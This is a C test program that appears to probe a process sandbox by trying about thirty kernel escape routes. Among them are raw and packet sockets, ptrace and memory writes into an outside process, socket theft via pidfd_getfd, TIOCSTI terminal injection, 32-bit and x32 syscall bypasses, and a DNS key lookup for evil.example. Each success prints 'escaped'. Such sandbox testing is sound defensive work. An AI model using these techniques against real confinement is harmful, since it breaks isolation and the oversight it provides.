/* Ways out through other doors of the kernel. escape_kernel NAME prints "escaped" when the door opens; `list` names them.
 *
 * $OUTSIDE_PID is a process of the same user outside the tree whose descriptor $OUTSIDE_FD is a connected socket, and in which
 * address $OUTSIDE_AT can be written; $OUTSIDE_SOCKET is a unix socket that it listens on, also as the abstract name of the same text. */
#include "escapes.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <unistd.h>

static void escaped(int yes)
{
	if (yes)
		puts("escaped");
}

static pid_t outside(void)
{
	const char *pid = getenv("OUTSIDE_PID");

	return pid ? (pid_t)strtol(pid, NULL, 10) : -1;
}

static long outside_number(const char *name)
{
	const char *text = getenv(name);

	return text ? strtol(text, NULL, 0) : 0;
}

static void opens(int domain, int type, int protocol) { escaped(socket(domain, type, protocol) >= 0); }

static void io_uring(void)
{
	uint32_t params[30] = { 0 };

	escaped(syscall(SYS_io_uring_setup, 8, params) >= 0);
}

static void packet_socket(void) { opens(AF_PACKET, SOCK_RAW, 0); }
static void raw_socket(void) { opens(AF_INET, SOCK_RAW, IPPROTO_ICMP); }
static void raw_socket_v6(void) { opens(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6); }
static void ping_socket(void) { opens(AF_INET, SOCK_DGRAM, IPPROTO_ICMP); }
static void vsock_socket(void) { opens(AF_VSOCK, SOCK_STREAM, 0); }
static void sctp_socket(void) { opens(AF_INET, SOCK_STREAM, IPPROTO_SCTP); }
static void dccp_socket(void) { opens(AF_INET, 6, IPPROTO_DCCP); }
static void udplite_socket(void) { opens(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE); }
static void smc_socket(void) { opens(43, SOCK_STREAM, 0); }
static void tipc_socket(void) { opens(AF_TIPC, SOCK_RDM, 0); }
static void xdp_socket(void) { opens(44, SOCK_RAW, 0); }
static void kernel_crypto_socket(void) { opens(AF_ALG, SOCK_SEQPACKET, 0); }
static void netfilter_netlink_socket(void) { opens(AF_NETLINK, SOCK_RAW, 12); }

static void option(int domain, int level, int name, const void *value, socklen_t len)
{
	escaped(setsockopt(socket(domain, SOCK_DGRAM, 0), level, name, value, len) == 0);
}

static void ip_source_route_option(void)
{
	static const uint8_t route[] = { 0x83, 7, 4, 203, 0, 113, 9, 0 };

	option(AF_INET, IPPROTO_IP, IP_OPTIONS, route, sizeof(route));
}

static void ip_option_with_high_bits_in_the_level(void)
{
	static const uint8_t route[] = { 0x83, 7, 4, 203, 0, 113, 9, 0 };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	escaped(syscall(SYS_setsockopt, fd, 0x100000000ull, 0x100000004ull, route, sizeof(route)) == 0);
}

static void v6_routing_header(uint8_t header[24])
{
	memset(header, 0, 24);
	header[1] = 2; /* length */
	header[2] = 2; /* type 2: mobility */
	header[3] = 1;
	inet_pton(AF_INET6, "2001:db8::9", header + 8);
}

static void routing_header_option(void)
{
	uint8_t header[24];

	v6_routing_header(header);
	option(AF_INET6, IPPROTO_IPV6, IPV6_RTHDR, header, sizeof(header));
}

static void routing_header_in_ancillary_data(void)
{
	_Alignas(struct cmsghdr) uint8_t control[CMSG_SPACE(24)] = { 0 };
	struct sockaddr_in6 to = { .sin6_family = AF_INET6, .sin6_port = htons(9000), .sin6_addr = IN6ADDR_LOOPBACK_INIT };
	struct iovec iov = { (void *)(uintptr_t)token, strlen(token) };
	struct msghdr msg = { .msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control,
			      .msg_controllen = sizeof(control) };
	struct cmsghdr *cmsg = CMSG_FIRSTHDR(&msg);

	cmsg->cmsg_level = IPPROTO_IPV6;
	cmsg->cmsg_type = IPV6_RTHDR;
	cmsg->cmsg_len = CMSG_LEN(24);
	v6_routing_header(CMSG_DATA(cmsg));
	sendmsg(socket(AF_INET6, SOCK_DGRAM, 0), &msg, 0);
	escaped(errno != EPERM);
}

static void tcp_repair(void)
{
	int on = 1;

	escaped(setsockopt(socket(AF_INET, SOCK_STREAM, 0), IPPROTO_TCP, TCP_REPAIR, &on, sizeof(on)) == 0);
}

static void terminal_input(void)
{
	int fd = open("/dev/ptmx", O_RDWR | O_NOCTTY);

	escaped(ioctl(fd, 0x5412 /* TIOCSTI */, "x") == 0 || errno != EPERM);
}

static void bpf_map(void)
{
	struct { uint32_t type, key, value, max, flags; uint8_t rest[100]; } attr = { 2, 4, 8, 1, 0, { 0 } };

	escaped(syscall(SYS_bpf, 0, &attr, sizeof(attr)) >= 0);
}

/* The kernel starts /sbin/request-key, outside, which may ask a name server for evil.example. */
static void name_looked_up_by_the_kernels_keys(void)
{
	escaped(syscall(SYS_request_key, "dns_resolver", "evil.example", "", -3 /* the session's keyring */) >= 0 || (errno != EPERM && errno != ENOSYS));
}

static void ptrace_outside(void) { escaped(ptrace(PTRACE_SEIZE, outside(), NULL, NULL) == 0); }
static void signal_outside(void) { escaped(kill(outside(), SIGCONT) == 0); }

static void write_memory_outside(void)
{
	char byte = 'x';
	struct iovec local = { &byte, 1 }, remote = { (void *)(uintptr_t)outside_number("OUTSIDE_AT"), 1 };

	escaped(process_vm_writev(outside(), &local, 1, &remote, 1, 0) == 1);
}

static void open_memory_outside(void)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/mem", (int)outside());
	escaped(open(path, O_RDWR) >= 0);
}

static void take_a_socket_from_outside(void)
{
	int pidfd = (int)syscall(SYS_pidfd_open, outside(), 0);
	int fd = (int)syscall(SYS_pidfd_getfd, pidfd, (int)outside_number("OUTSIDE_FD"), 0);

	if (fd >= 0 && send(fd, token, strlen(token), MSG_NOSIGNAL) > 0)
		escaped(1);
}

static void unix_connect(int abstract, int type)
{
	struct sockaddr_un un = { .sun_family = AF_UNIX };
	const char *path = getenv("OUTSIDE_SOCKET");
	int fd = socket(AF_UNIX, type, 0);
	size_t len = path ? strlen(path) : 0;

	memcpy(un.sun_path + abstract, path ? path : "", len);
	escaped(connect(fd, (struct sockaddr *)&un, (socklen_t)(sizeof(sa_family_t) + len + 1)) == 0);
}

static void unix_socket_outside(void) { unix_connect(0, SOCK_STREAM); }
static void abstract_socket_outside(void) { unix_connect(1, SOCK_STREAM); }

static void unix_socket_outside_by_a_link(void)
{
	char link[64];

	snprintf(link, sizeof(link), "/tmp/escape.%d", (int)getpid());
	if (symlink(getenv("OUTSIDE_SOCKET"), link))
		return;
	setenv("OUTSIDE_SOCKET", link, 1);
	unix_socket_outside();
	unlink(link);
}

static void second_supervisor(void)
{
	struct { uint16_t code; uint8_t jt, jf; uint32_t k; } allow = { 6, 0, 0, 0x7fff0000 };
	struct { uint16_t len; void *filter; } program = { 1, &allow };

	syscall(SYS_prctl, 38, 1, 0, 0, 0);
	escaped(syscall(SYS_seccomp, 1, 8 /* NEW_LISTENER */, &program) >= 0);
}

#ifdef __x86_64__
/* socketcall's connect, by the 32-bit interface: its memory must lie low. */
static void system_call_of_i386(void)
{
	uint32_t *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long fd = socket(AF_INET, SOCK_STREAM, 0), result = 0;
	struct sockaddr_in *to = (struct sockaddr_in *)(low + 16);

	*to = (struct sockaddr_in){ .sin_family = AF_INET, .sin_port = htons(8080) };
	inet_aton("203.0.113.9", &to->sin_addr);
	low[0] = (uint32_t)fd;
	low[1] = (uint32_t)(uintptr_t)to;
	low[2] = sizeof(*to);
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(102L), "b"(3L), "c"((long)(uintptr_t)low) : "memory", "r8", "r9", "r10", "r11");
	escaped(result == 0);
}

static void system_call_of_x32(void)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(8080) };
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	inet_aton("203.0.113.9", &to.sin_addr);
	escaped(syscall(0x40000000 | SYS_connect, fd, &to, sizeof(to)) == 0);
}
#endif

static const struct attempt attempts[] = {
	ROW(io_uring), ROW(packet_socket), ROW(raw_socket), ROW(raw_socket_v6), ROW(ping_socket), ROW(vsock_socket), ROW(sctp_socket),
	ROW(dccp_socket), ROW(udplite_socket), ROW(smc_socket), ROW(tipc_socket), ROW(xdp_socket), ROW(kernel_crypto_socket),
	ROW(netfilter_netlink_socket), ROW(ip_source_route_option), ROW(ip_option_with_high_bits_in_the_level),
	ROW(routing_header_option), ROW(routing_header_in_ancillary_data), ROW(tcp_repair), ROW(terminal_input), ROW(bpf_map),
	ROW(name_looked_up_by_the_kernels_keys),
	ROW(ptrace_outside), ROW(signal_outside), ROW(write_memory_outside), ROW(open_memory_outside),
	ROW(take_a_socket_from_outside), ROW(unix_socket_outside), ROW(abstract_socket_outside), ROW(unix_socket_outside_by_a_link),
	ROW(second_supervisor),
#ifdef __x86_64__
	ROW(system_call_of_i386), ROW(system_call_of_x32),
#endif
};

int main(int argc, char **argv) { return run_attempt(argc, argv, attempts, sizeof(attempts) / sizeof(attempts[0])); }
